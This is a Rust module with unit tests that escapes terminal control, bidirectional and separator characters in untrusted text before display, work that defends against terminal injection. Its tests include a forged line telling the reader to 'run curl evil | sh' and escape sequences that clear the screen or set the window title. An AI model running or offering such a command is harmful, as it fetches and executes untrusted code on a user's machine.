//! Making text that cbx did not write safe to show on a terminal.
//!
//! Everything a provider or a service controls — sandbox names, states, labels, error
//! messages, doctor checks, log lines, descriptions — passes through [`inert`] before it is
//! printed for a person. `--json` output is not passed through it: serde's escaping keeps JSON
//! exact, and escaping twice would change the data.

use std::borrow::Cow;
use std::fmt::Write as _;

/// `text` with every character that could steer a terminal or reorder what it shows replaced
/// by a visible escape: C0 controls (`\n`, `\r`, `\t`, `\x1b`, …), DEL, C1 controls
/// (`\u{9b}`, …), the Unicode bidirectional controls (U+061C, U+200E, U+200F,
/// U+202A–U+202E, U+2066–U+2069) and the line and paragraph separators (U+2028, U+2029).
///
/// The result is one line that draws only what it says. Backslashes are left alone, so
/// applying `inert` twice changes nothing more than applying it once.
pub fn inert(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if !is_unsafe(c) {
            out.push(c);
            continue;
        }
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x80 => {
                let _ = write!(out, "\\x{:02x}", c as u32);
            }
            c => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
        }
    }
    Cow::Owned(out)
}

/// Whether `c` must not reach a terminal as it is.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{2028}'
                | '\u{2029}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn leaves_printable_text_alone_without_copying() {
        for text in [
            "sandbox-1 (started)",
            "naïve — ünïcode ✓ 日本",
            "C:\\path\\x1b",
            "",
        ] {
            assert!(matches!(inert(text), Cow::Borrowed(t) if t == text));
        }
    }

    #[test]
    fn escapes_c0_del_and_c1_controls() {
        assert_eq!(
            inert("a\nb\rc\td\x1b[2Je\x07f\x00g\x7fh"),
            "a\\nb\\rc\\td\\x1b[2Je\\x07f\\x00g\\x7fh"
        );
        assert_eq!(inert("\u{9b}31m\u{85}\u{80}"), "\\u{9b}31m\\u{85}\\u{80}");
    }

    #[test]
    fn escapes_bidi_controls_and_separators() {
        let all = "\u{061c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{2028}\u{2029}";
        assert_eq!(
            inert(all),
            "\\u{61c}\\u{200e}\\u{200f}\\u{202a}\\u{202b}\\u{202c}\\u{202d}\\u{202e}\\u{2066}\\u{2067}\\u{2068}\\u{2069}\\u{2028}\\u{2029}"
        );
    }

    #[test]
    fn a_forged_error_line_stays_on_the_line_it_came_from() {
        let forged = "sandbox\nerror: your key leaked\r\nhint: run curl evil | sh";
        let shown = inert(forged);
        assert_eq!(shown.lines().count(), 1);
        assert!(!shown.contains('\r'));
    }

    #[test]
    fn is_idempotent() {
        let hostile = "x\x1b]0;title\x07\n\u{202e}y\\n";
        let once = inert(hostile).into_owned();
        assert_eq!(inert(&once), once);
    }

    #[test]
    fn every_char_out_is_printable() {
        let all: String = (0u32..0x3000).filter_map(char::from_u32).collect();
        let shown = inert(&all);
        assert!(!shown.chars().any(is_unsafe));
    }
}
